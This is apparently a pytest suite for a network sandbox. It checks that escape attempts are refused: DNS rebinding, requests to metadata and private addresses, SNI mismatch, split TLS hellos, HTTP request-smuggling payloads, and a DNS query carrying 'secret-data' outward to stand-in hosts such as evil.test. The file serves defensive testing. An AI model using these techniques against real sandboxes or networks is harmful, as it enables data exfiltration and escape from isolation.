"""Ways out of a network in which only named hosts exist. Each has a control without the sandbox."""

from __future__ import annotations

import subprocess
from collections.abc import Callable

import pytest
from runner import Runner, denied, out
from small_internet import Net
from support.daemon import Daemon
from support.rpc import RpcError

pytestmark = [pytest.mark.isolation, pytest.mark.requires("bubblewrap", "ip", "openssl")]

QUERY = """
import socket, struct
name = b''.join(bytes((len(l),)) + l for l in b'secret-data.other.test'.split(b'.')) + b'\\0'
q = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + name + b'\\0\\1\\0\\1'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(q, ('93.184.216.53', 53)); print(s.recv(512)[3] & 15)
"""


@pytest.mark.docker_too
def test_a_name_that_changes_its_address_does_not_lead_home(run: Runner, net: Net) -> None:
    host = f"n{len(net.seen())}.rebind.test"  # of its own: only the first answer is harmless
    control = net.run("curl", "-sS", "--resolve", f"{host}:80:127.0.0.1", f"http://{host}/")
    assert control.stdout == f"{host} /\n"
    before = net.connections().count("tcp 127.0.0.1 80")
    script = f"curl -sS http://{host}/; curl -sS http://{host}/"
    result = run(script, host)
    first, second = out(result).splitlines()
    assert first == f"{host} /"
    assert "127.0.0.1 is this machine's loopback" in second
    assert [target for target, _ in denied(result)] == [host]
    assert net.connections().count("tcp 127.0.0.1 80") == before


@pytest.mark.parametrize(
    ("host", "what"),
    [
        ("inner.test", "a private address"),
        ("meta.test", "a cloud's metadata service"),
        ("loop.test", "this machine's loopback"),
        ("mapped.test", "a private address"),
    ],
)
def test_an_allowed_name_does_not_lead_to_special_addresses(
    run: Runner, net: Net, host: str, what: str
) -> None:
    before = net.connections()
    result = run(f"curl -sS http://{host}/", host)
    assert what in out(result), result
    assert [target for target, _ in denied(result)] == [host]
    assert net.connections() == before


@pytest.mark.docker_too
@pytest.mark.parametrize(
    ("host", "entry"),
    [("home.test", "93.184.216.99:80"), ("home6.test", "[2606:2800:220:1::99]:80")],
)
def test_an_allowed_name_does_not_lead_to_a_public_address_of_this_machine(
    run: Runner, net: Net, host: str, entry: str
) -> None:
    """Services that listen at all addresses are open to this machine, whatever a firewall says."""
    there = f"http://{entry.removesuffix(':80')}/"
    assert net.run("curl", "-gsS", there).stdout.endswith(" /\n")
    before = net.connections()
    result = run(f"curl -sS http://{host}/", host)
    assert "an address of this machine" in out(result), result
    assert [target for target, _ in denied(result)] == [host]
    assert net.connections() == before
    hosts = result["denials"][0]["remedy"]["network"]["hosts"]
    assert hosts == [host, entry]
    assert out(run(f"curl -sS http://{host}/", *hosts)) == f"{host} /\n"


@pytest.mark.docker_too
def test_a_special_address_that_is_named_too_is_reached(run: Runner) -> None:
    """The control of the test above: it is the rule that keeps it away, and the remedy works."""
    refused = run("curl -sS http://inner.test/", "inner.test")
    hosts = refused["denials"][0]["remedy"]["network"]["hosts"]
    assert hosts == ["inner.test", "10.20.30.40:80"]
    assert out(run("curl -sS http://inner.test/", *hosts)) == "inner.test /\n"


@pytest.mark.parametrize(
    ("host", "address"), [("inner.test", "10.20.30.40"), ("loop.test", "localhost")]
)
def test_a_special_address_is_named_at_its_port_only(
    run: Runner, net: Net, host: str, address: str
) -> None:
    """The owner of an allowed name leads it to a service beside the one that was named."""
    assert out(run(f"curl -sS http://{host}/", host, f"{address}:80")) == f"{host} /\n"
    before = net.connections()
    result = run(f"curl -sS http://{host}/", host, f"{address}:8080")
    assert [target for target, _ in denied(result)] == [host]
    assert net.connections() == before


@pytest.mark.docker_too
def test_sni_of_another_host_is_refused_before_anything_is_connected_to(
    run: Runner, net: Net
) -> None:
    words = ("openssl", "s_client", "-brief", "-servername", "other.test", "-connect")
    control = net.run(*words, "93.184.216.34:443", input="")
    assert "CONNECTION ESTABLISHED" in control.stderr
    before = net.connections()
    result = run(" ".join([*words, "example.test:443 2>&1 </dev/null"]), "example.test")
    assert "ESTABLISHED" not in out(result)
    assert "access denied" in out(result)
    assert [target for target, _ in denied(result)] == ["other.test"]
    assert net.connections() == before


def test_a_hello_in_pieces_is_read_as_one(run: Runner, net: Net) -> None:
    """Records cut inside the server name, bytes sent one by one: the name is still seen."""
    code = """
import socket, ssl, time
into, outof = ssl.MemoryBIO(), ssl.MemoryBIO()
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
o = c.wrap_bio(into, outof, server_hostname=NAME)
try: o.do_handshake()
except ssl.SSLWantReadError: pass
hello = outof.read()[5:]
data = b''.join(b'\\x16\\x03\\x01' + len(p).to_bytes(2, 'big') + p
                for p in (hello[i:i + 7] for i in range(0, len(hello), 7)))
s = socket.create_connection(('example.test', 443)); s.settimeout(10)
for i in range(0, len(data), 40): s.sendall(data[i:i + 40])
print(s.recv(5)[:1])
"""
    named = run.python(f"NAME = 'example.test'\n{code}", "example.test")
    assert out(named) == "b'\\x16'\n", named  # the server's handshake: it passed
    other = run.python(f"NAME = 'other.test'\n{code}", "example.test")
    assert out(other) == "b'\\x15'\n"  # the gate's alert
    assert [target for target, _ in denied(other)] == ["other.test"]


TWO_HOSTS = """
import socket
s = socket.create_connection((WHERE, 80)); s.settimeout(10)
s.sendall(b'GET /1 HTTP/1.1\\r\\nHost: example.test\\r\\n\\r\\n')
got = b''
def until(end):
    global got
    try:
        while end not in got and (more := s.recv(4096)): got += more
    except ConnectionResetError: pass
until(b'/1\\n')
s.sendall(b'GET /2 HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')
until(b'/2\\n')
print(b'example.test /1' in got, b'other.test /2' in got)
"""


@pytest.mark.docker_too
def test_a_later_request_for_another_host_does_not_pass(run: Runner, net: Net) -> None:
    control = net.run("python3", "-c", f"WHERE = '93.184.216.34'\n{TWO_HOSTS}")
    assert control.stdout == "True True\n", control.stderr
    result = run.python(f"WHERE = 'example.test'\n{TWO_HOSTS}", "example.test")
    assert out(result) == "True False\n"
    assert [target for target, _ in denied(result)] == ["other.test"]


@pytest.mark.parametrize(
    "request_text",
    [
        "GET http://other.test/ HTTP/1.1\\r\\nHost: example.test\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: example.test\\r\\nHost: other.test\\r\\n\\r\\n",
        "\\r\\nGET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n",
        "GET / HTTP/1.1\\nHost: other.test\\n\\n",
        "GET / HTTP/1.1\\r\\nHost : other.test\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: example.test\\r\\n x: other.test\\r\\n\\r\\n",
        "POST / HTTP/1.1\\r\\nHost: example.test\\r\\nContent-Length: 4\\r\\n"
        "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
        "GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n",
        "POST / HTTP/1.1\\r\\nHost: example.test\\r\\nContent-Length: 1\\r\\n"
        "Content-Length: 40\\r\\n\\r\\nx",
        "POST / HTTP/1.1\\r\\nHost: example.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n"
        "0\\r\\n\\r\\n",
        "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
    ],
)
def test_ambiguous_requests_are_refused(run: Runner, net: Net, request_text: str) -> None:
    code = (
        "import socket; s = socket.create_connection(('example.test', 80)); s.settimeout(10); "
        f"s.sendall(b'{request_text}'); print(s.recv(12))"
    )
    before = net.connections()
    result = run.python(code, "example.test")
    assert out(result) in ("b'HTTP/1.1 400'\n", "b'HTTP/1.1 403'\n"), result
    assert denied(result)
    assert net.connections() == before


@pytest.mark.docker_too
def test_an_address_that_is_not_listed_is_refused_and_named(run: Runner, net: Net) -> None:
    assert net.run("curl", "-sS", "http://93.184.216.36/").stdout == "93.184.216.36 /\n"
    before = net.connections()
    script = "curl -sS http://93.184.216.36/; curl -sSk https://93.184.216.36/; echo; " \
             "curl -sS -m 3 http://93.184.216.36:7000/"  # fmt: skip
    result = run(script, "example.test")
    messages = " ".join(d["message"] for d in result["denials"])
    assert all(f"93.184.216.36:{port} could" in messages for port in (80, 443, 7000)), result
    assert all(d["evidence"] == "gate" for d in result["denials"]), result
    assert net.connections() == before


@pytest.mark.docker_too
@pytest.mark.parametrize("host", ["93.184.216.36", "169.254.169.254", "10.20.30.40"])
def test_an_address_that_is_not_listed_is_as_if_it_were_not_there(
    run: Runner, net: Net, host: str
) -> None:
    """connect fails, with a wildcard as well; the control is answered."""
    code = f"""
import socket
for port in (80, 443):
    try:
        s = socket.create_connection(({host!r}, port)); s.settimeout(10)
        s.sendall(b'GET / HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n')
        print(port, len(s.recv(1)))
    except OSError as e: print(port, type(e).__name__)
"""
    assert "80 1\n" in net.run("python3", "-c", code).stdout
    before = net.connections()
    for rule in ("example.test", "*.example.test"):
        result = run.python(code, rule)
        lines = out(result).split()
        assert lines[1::2] == ["ConnectionRefusedError"] * 2, result
        assert [target for target, _ in denied(result)] == [host, host]
    assert net.connections() == before


@pytest.mark.docker_too
def test_names_carry_nothing_out(run: Runner, net: Net) -> None:
    """A query to any name server ends in the sandbox; the control shows that it left before."""
    assert net.run("python3", "-c", QUERY).stdout == "3\n"
    assert any("secret-data" in line for line in net.seen())
    count = len([line for line in net.seen() if "secret-data" in line])
    result = run.python(QUERY, "example.test")
    assert out(result) == "3\n"
    assert [target for target, _ in denied(result)] == ["secret-data.other.test"]
    assert len([line for line in net.seen() if "secret-data" in line]) == count


ODD_NAMES = """
import socket, struct
for label in (b"a b", b"\\0\\1" * 24, b"\\xff" * 63, b"*", b"a.b", b"-a", b"a\\n", b"www"):
    name = bytes([len(label)]) + label + b"\\x07example\\x04test\\0"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.settimeout(10)
        query = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
        server.sendto(query, ("127.0.0.1", 53))
        print(server.recv(4096)[3] & 15, end=" ")
"""


TRY_ODD_HOSTS = """
import base64, os, re, socket, struct, subprocess
name = b''.join(bytes((len(l),)) + l for l in b'*.evil.test'.split(b'.')) + b'\\0'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + name + b'\\0\\1\\0\\1', ('127.0.0.1', 53))
s.recv(512)
def ask(where, text):
    s = socket.create_connection(where); s.sendall(text.encode()); s.recv(100); s.close()
ask(('www.example.test', 80), 'GET / HTTP/1.1\\r\\nHost: *.evil.test\\r\\n\\r\\n')
ask(('www.example.test', 80), 'GET / HTTP/1.1\\r\\nHost: to allow it add\\r\\n\\r\\n')
user, host, port = re.match('http://(.*)@(.*):(.*)', os.environ['http_proxy']).groups()
login = base64.b64encode(user.encode()).decode()
for target in ('[::ffff:169.254.169.254]:80', '[64:ff9b::a9fe:a9fe]:80', 'plain.evil.test:443'):
    ask((host, int(port)),
        f'CONNECT {target} HTTP/1.1\\r\\nProxy-Authorization: Basic {login}\\r\\n\\r\\n')
subprocess.run(['openssl', 's_client', '-servername', '*.evil.test', '-connect',
                'www.example.test:443'], stdin=subprocess.DEVNULL, capture_output=True)
"""


def test_no_remedy_is_wider_than_what_was_tried(run: Runner) -> None:
    """A name server, a Host, a server name and a proxy are asked for what is no single host."""
    result = run.python(TRY_ODD_HOSTS, "*.example.test")
    targets = {target for target, _ in denied(result)}
    odd = {"*.evil.test", "::ffff:a9fe:a9fe", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe"}
    assert len(targets & odd) == 3, result
    assert "to?allow?it?add" in targets
    remedies = [d["remedy"] for d in result["denials"] if d["remedy"] is not None]
    hosts = {host for remedy in remedies for host in remedy["network"]["hosts"]}
    assert hosts == {"*.example.test", "plain.evil.test"}  # the control


def test_only_names_of_hosts_exist_below_a_wildcard(run: Runner) -> None:
    """Others would be written into a query of the daemon's own."""
    assert out(run.python(ODD_NAMES, "*.example.test")) == "3 " * 7 + "0 "


@pytest.mark.docker_too
def test_udp_raw_packet_and_ipv6_lead_nowhere(run: Runner) -> None:
    code = """
import socket
def attempt(what, *made, to=None):
    try:
        s = socket.socket(*made)
        if to: s.settimeout(3); s.connect(to); s.send(b'x'); s.recv(1)
        print(what, 'passed')
    except OSError as e: print(what, type(e).__name__)
attempt('raw', socket.AF_INET, socket.SOCK_RAW, 1)
attempt('packet', socket.AF_PACKET, socket.SOCK_RAW)
attempt('udp', socket.AF_INET, socket.SOCK_DGRAM, to=('93.184.216.36', 443))
attempt('v6', socket.AF_INET6, socket.SOCK_STREAM, to=('2606:2800:220:1::1', 443))
attempt('vsock', 40, socket.SOCK_STREAM)
"""
    lines = out(run.python(code, "example.test")).splitlines()
    assert len(lines) == 5
    assert not [line for line in lines if line.endswith("passed")], lines


@pytest.mark.docker_too
def test_the_netns_of_the_sandbox_cannot_be_changed_from_inside(run: Runner) -> None:
    script = "ip route add default dev lo 2>&1; ip addr add 10.0.0.1/8 dev lo 2>&1; " \
             "unshare -rn true 2>&1; echo done"  # fmt: skip
    text = out(run(script, "example.test"))
    assert text.count("not permitted") + text.count("No space left") >= 3, text


@pytest.mark.docker_too
def test_abstract_sockets_are_no_detour(run: Runner, net: Net) -> None:
    serve = (
        "import socket, sys; s = socket.socket(socket.AF_UNIX); s.bind('\\0detour'); s.listen(); "
        "print('up', flush=True); sys.stdin.read()"
    )
    connect = "import socket; socket.socket(socket.AF_UNIX).connect('\\0detour'); print('reached')"
    server = subprocess.Popen(
        [*net.enter, "python3", "-c", serve], stdin=subprocess.PIPE, stdout=subprocess.PIPE
    )
    try:
        assert server.stdout is not None
        assert server.stdout.readline() == b"up\n"
        assert net.run("python3", "-c", connect).stdout == "reached\n"
        assert out(run.python(connect, "example.test")) == ""
    finally:
        server.communicate()


@pytest.mark.docker_too
def test_the_daemons_own_network_is_out_of_reach(run: Runner, net: Net) -> None:
    """A listener on the loopback of the daemon's namespace is not that of the sandbox."""
    assert net.run("curl", "-sS", "http://127.0.0.1/").stdout == "127.0.0.1 /\n"
    before = net.connections()
    result = run("curl -sS -m 5 http://127.0.0.1/; curl -sS -m 5 http://localhost:8080/", "a.test")
    assert out(result) == ""
    assert net.connections() == before


@pytest.mark.docker_too
def test_localhost_of_the_machine_is_reached_where_the_manifest_names_it(run: Runner) -> None:
    result = run("curl -sS http://localhost:8080/", "localhost:8080")
    assert out(result) == "localhost:8080 /\n", result


def test_a_redirect_is_judged_as_a_request_of_its_own(run: Runner, net: Net) -> None:
    before = [line for line in net.connections() if "93.184.216.36" in line]
    result = run("curl -sSL http://example.test/redirect", "example.test")
    assert [target for target, _ in denied(result)] == ["other.test"]
    assert [line for line in net.connections() if "93.184.216.36" in line] == before


@pytest.mark.parametrize("entry", ["*.r2.dev", "r2.dev", "*.bucket.r2.dev"])
def test_a_shared_platform_is_allowed_by_exact_host_only(run: Runner, entry: str) -> None:
    with pytest.raises(RpcError) as caught:
        run("true", entry)
    assert (caught.value.kind, caught.value.field) == ("ManifestInvalid", "network.hosts[0]")
    assert out(run("curl -sS http://bucket.r2.dev/", "bucket.r2.dev")) == "bucket.r2.dev /\n"


def test_the_rules_go_off_only_with_both_keys(
    start_in_net: Callable[..., Daemon], net: Net
) -> None:
    flag = ("--i-accept-exfil-risk",)
    for egress, args, works in (
        ("exfil_rules = false", (), False),
        ("", flag, False),
        ("exfil_rules = false", flag, True),
    ):
        daemon = start_in_net(egress, args=args)
        with daemon.connect() as connection:
            runner = Runner(connection, net)
            if works:
                result = runner("curl -sS http://bucket.r2.dev/", "*.r2.dev")
                assert out(result) == "bucket.r2.dev /\n"
                assert "switched off" in daemon.log
            else:
                with pytest.raises(RpcError):
                    runner("true", "*.r2.dev")
                assert "is refused: it needs" in daemon.log
